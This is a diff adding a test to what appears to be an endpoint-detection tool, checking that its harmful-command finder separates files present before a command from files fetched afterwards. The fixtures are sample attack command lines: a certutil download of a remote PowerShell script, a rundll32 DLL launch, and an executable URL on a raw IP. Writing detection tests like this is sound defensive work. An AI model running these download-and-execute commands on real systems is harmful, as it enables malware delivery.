@@ -76,3 +76,24 @@ test('only outer addresses and whole links of harmful commands are followed, wha
     ['http://185.38.114.66/a.exe', '185.38.114.66'],
   )
 })
+
+test('a file that was there before a harmful command names it ran with it, and one that came later was fetched', () => {
+  const skill = endpointDetection.skills.find(({ id }) => id === 'find-harmful-commands')
+  const events = [
+    event(0, { ProcessCommandLine: 'rundll32.exe C:\\ProgramData\\ldrv.dll,Boot' }),
+    event(0, { ProcessCommandLine: 'certutil -urlcache -f http://files.example/next.ps1 C:\\Temp\\next.ps1' }),
+  ]
+  const traces = [
+    event(-4, { ActionType: 'FileCreated', FileName: 'ldrv.dll', SHA256: 'a'.repeat(64) }),
+    event(1, { ActionType: 'FileCreated', FileName: 'next.ps1', SHA256: 'b'.repeat(64) }),
+  ]
+  const found = skill?.discovers?.({ input: { machine: 'pc-17' }, output: { events, traces, truncated: false } }) ?? []
+  const files = found.filter(({ observable }) => observable.kind === 'hash')
+  assert.deepEqual(
+    files.map(({ observable, ran_at }) => [observable.value[0], ran_at !== undefined]),
+    [
+      ['a', true],
+      ['b', false],
+    ],
+  )
+})
